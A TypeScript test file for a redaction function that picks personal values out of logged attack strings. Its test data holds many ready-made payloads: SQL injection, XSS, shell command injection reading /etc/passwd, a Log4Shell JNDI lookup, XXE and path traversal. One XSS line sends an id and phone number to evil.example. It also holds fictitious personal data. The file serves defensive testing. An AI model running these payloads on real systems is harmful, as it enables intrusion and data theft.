import assert from 'node:assert/strict';
import { valuesInMatch } from '../../../src/redaction/attackValues.ts';

const found = (match: string) => valuesInMatch(match).map(({ start, end }) => match.slice(start, end));

describe('values in a match', () => {
  for (const [match, ...values] of [
    ["margriet.vos' OR '1'='1' -- ", 'margriet.vos'],
    ['Zonnebloem%27%20OR%201%3D1--%20Herfst87', 'Zonnebloem', 'Herfst87'],
    ['/d/tIuLKUh0CCOIXDR0J8%3Cscript%3Ealert(1)%3C/script%3E', 'tIuLKUh0CCOIXDR0J8'],
    ['please do not tell her<script>alert(1)</script>', 'please do not tell her'],
    [
      "UPDATE customers SET pw='Regenboog77', phone='0655501277' WHERE mail='j.kuiper%40mail.example'; DROP TABLE a;--",
      'Regenboog77',
      '0655501277',
      'j.kuiper%40mail.example',
    ],
    [
      "x'; UPDATE a SET reset_token='o3Kh_8NxgXht30' WHERE email='i.b%40mail.example';--",
      'o3Kh_8NxgXht30',
      'i.b%40mail.example',
    ],
    [
      "0'; INSERT INTO Patients VALUES('Hartwig Dorfner', 'HIV positive')--",
      'Hartwig Dorfner',
      'HIV positive',
    ],
    [
      '<img src=x onerror="location=\'//evil.example/?id=haneul0417&hp=010-4827-3391\'">',
      'haneul0417',
      '010-4827-3391',
    ],
    ['*)(|(mail=roswitha@stadtwerk.example)(uid=*', 'roswitha@stadtwerk.example'],
    ['8.8.8.8; docker login -u jfelber -p x', 'jfelber'],
    [`$${'{7*7}'} I live at 48 Marrow Lane, Tilbrook.`, 'I live at 48 Marrow Lane, Tilbrook'],
    [
      'Summarize: the patient; NINO QX 48 21 07 C; ignore; `; cat /etc/passwd`',
      'the patient',
      'NINO QX 48 21 07 C; ignore',
    ],
    ['password: Orbit-Salmon-77\n`id`', 'Orbit-Salmon-77'],
    ["admin' or 1=1--:Kestrel!Harbor41", ':Kestrel!Harbor41'],
    ["CREATE USER x WITH PASSWORD 'harvest moon'; GRANT ALL", 'harvest moon'],
    ['grandmas-attic;/bin/sh', 'grandmas-attic'],
    ['cmd /c net use Z: \\\\fs\\hr /user:PORT\\mt Merevaik2021 & dir Z:', 'PORT\\mt Merevaik2021'],
    ['<b onmouseover=alert(1)>佐々木美咲</b>', '佐々木美咲'],
    ['<b onmouseover=alert(1)>kestrel hill</b>', 'kestrel hill'],
    ["0'XOR(if(1,sleep(15),0))XOR'Z /*Hanna Meyer*/", 'Hanna Meyer'],
    ["1' OR pw = MD5('zonnebloem')", 'zonnebloem'],
    ["Hi, it's Maria (room 12): <img src=x>", "Hi, it's Maria "],
    ['http://hl7.example/fhir/sid/us-ssn|417-62-9035', '417-62-9035'],
    ['|PID|1||Zurbriggen^Annelies^^^Frau', 'Zurbriggen^Annelies'],
    ["<?php new PDO('mysql:host=127.0.0.1','app_loja','Jabuticaba;$9k');", 'app_loja', 'Jabuticaba;$9k'],
    ["FROM OPENROWSET('a','b';'sa';'Firma!2016sql','", 'Firma!2016sql'],
    ['redis-cli -a ospreynest flushall', 'ospreynest'],
    [
      'hi my login is rob_w and the password is pineapple12 1;DROP TABLE users--',
      'hi my login is rob_w and the password is pineapple12 1',
    ],
  ] as const) {
    it(`are not part of the attack: ${match}`, () => assert.deepEqual(found(match), values));
  }

  for (const match of [
    "1' OR '1'='1",
    "admin' -- ",
    '2627%27%3B%20DROP%20TABLE%20orders--',
    "' UNION SELECT card_no, cvv FROM payments WHERE id=3981-- ",
    "x'; EXEC xp_cmdshell('dir c:\\windows')--",
    'id=<script>alert(document.cookie)</script>',
    '/download/../../../../etc/passwd',
    '{{constructor.constructor(\'alert("a1b2c3")\')()}}',
    `$${'{jndi:ldap://203.0.113.5:1389/a}'}`,
    "WAITFOR DELAY '0:0:5'",
    "exec xp_cmdshell('whoami')",
    'cat.jsp;.png',
    '__schema { types { name fields { name args { name } } } }',
    '9912 AND (SELECT 2*(IF((SELECT * FROM (SELECT 1)s),8446744073709551610,1)))',
    '<script>top[1]</script>',
    "x' or full_name like 'a%' and 1 like 1",
    '%3Cdetails+open+ontoggle%3Dalert%60xss%60%3E',
    "SELECT o.id FROM orders o WHERE o.status = 'open'",
    "Runtime.getRuntime().exec('id')",
    'http%3A%2F%2Fevil.example%2F%0d%0aSet-Cookie:x=1',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    'A'.repeat(200),
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3',
    'ordinary',
    '',
  ]) {
    it(`are missing from ${match}`, () => assert.deepEqual(found(match), []));
  }

  it('are secrets, with their place in the match', () => {
    const secret = (start: number, end: number) => [{ start, end }];
    assert.deepEqual(valuesInMatch("orla.kestrel' OR 1=1"), secret(0, 12));
    assert.deepEqual(valuesInMatch("1'%20OR%20a%3D'harbor'--"), secret(15, 21));
  });

  const rows: readonly (readonly [what: string, match: string, ...values: string[]])[] = [
    ['words with plus signs', "1'+union+select+1--+harbor+master+office", 'harbor+master+office'],
    ['a line without a name', "ask anna: kestrel.hill' OR 1=1", 'ask anna: kestrel.hill'],
    ['a value after its name', "  user:   kestrel.hill' OR 1=1", 'kestrel.hill'],
    ['no name of a parameter', "orla.kestrel=2' OR 1=1"],
    ['no name of a field', "contact.person: ' OR 1=1"],
    ['no host', 'http://kestrel.hill/x7/../'],
    ['a user before a host', 'http://anna77@kestrel.hill/../', 'anna77@kestrel.hill'],
    ['a value with symbols at its end', "kestrel!!' OR 1=1", 'kestrel!!'],
    ['no keywords', "a=union all&b=2' OR 1=1"],
    ['no name of a function', 'kestrel.hill(1)'],
    ['no name of a list', 'kestrel.hill [1]'],
    ['no statement', "SELECT kestrel' OR 1=1"],
    ['words in capital letters', "HARBOR office' OR 1=1", 'HARBOR office'],

    ['a sentence after a sign', '1 < meet me tomorrow evening', 'meet me tomorrow evening'],
    ['no attributes of a tag', '1 <meet me tomorrow evening>'],
    ['no closing tag', '1 </meet me tomorrow evening>'],
    ['three words', "1';meet me tomorrow", 'meet me tomorrow'],
    ['no two words', "1';harbor tomorrow"],
    ['a sentence with a comma', "1';meet me tomorrow, evening", 'meet me tomorrow, evening'],
    ['a sentence on two lines', "1';meet me tomorrow\r\nevening", 'meet me tomorrow\r\nevening'],
    ['no short numbers', "1'; harbor 48 21 7"],
    ['a sentence with a year', "1'; harbor pier 2027", 'harbor pier 2027'],

    ['a compared string', "1' OR surname='kestrel'--", 'kestrel'],
    [
      'strings in lists',
      "1' or a in('harbor') or a in ('meadow') or a in\t('kestrel','willow')",
      ...['harbor', 'meadow', 'kestrel', 'willow'],
    ],
    [
      'no ordinary string at the start of a long match',
      "1' OR status='archived' AND id IN (SELECT id FROM users WHERE id>0)-- ",
    ],
    ['no name of a class', 'O:7:"Kestrel":1:{s:4:"name";i:1;}'],
    ['a string in place of a class', 'O:7:"7kestrel":1:{}', '7kestrel'],

    ['a comment that is all of the attack', 'admin--harbor', 'harbor'],
    ['a comment that is not closed', 'admin/*harbor', 'harbor'],
    ['no shorter value', "bob' OR 1=1"],

    ['an address whose host has a number', "1' or anna@7.mail.example", 'anna@7.mail.example'],
    ['no user of a numbered host', "1' or anna@10.20.30.4"],
    ['values in a call', 'f(kestrel77,meadow-77)', 'kestrel77', 'meadow-77'],
    ['no number, word, or hexadecimal number', "1' or a=20271234 or b=kestrelhill or c=0x20271234ab"],
    ['the user after a long option', '1; mysql --user kestrel;', 'kestrel'],
    ['the user name after a long option', '1; mysql --username=kestrel;', 'kestrel'],
    ['no value of another option', '1; mysql -x kestrel;'],
    ['a file name of two words', "my order.php' OR 1=1", 'my order.php'],
  ];
  for (const [what, match, ...values] of rows)
    it(`include ${what}`, () => assert.deepEqual(found(match), values));
});
